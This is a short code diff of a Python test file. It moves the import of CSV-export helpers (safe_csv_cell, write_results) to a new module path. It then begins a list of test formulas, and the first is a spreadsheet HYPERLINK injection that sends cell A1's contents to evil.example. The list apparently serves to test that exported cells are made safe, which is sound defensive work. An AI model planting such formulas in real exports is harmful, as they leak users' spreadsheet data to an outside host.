@@ -11,9 +11,9 @@ from skynet_core.cases import Case
 from skynet_core.cli import run
 from skynet_core.datasets import DatasetError, load_dataset
 from skynet_core.display import terminal_text
-from skynet_core.export import safe_csv_cell, write_results
 from skynet_core.feedback import export_rows, review, rows_csv
 from skynet_core.results import CaseResult, CaseStatus
+from skynet_core.runs.export import safe_csv_cell, write_results
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
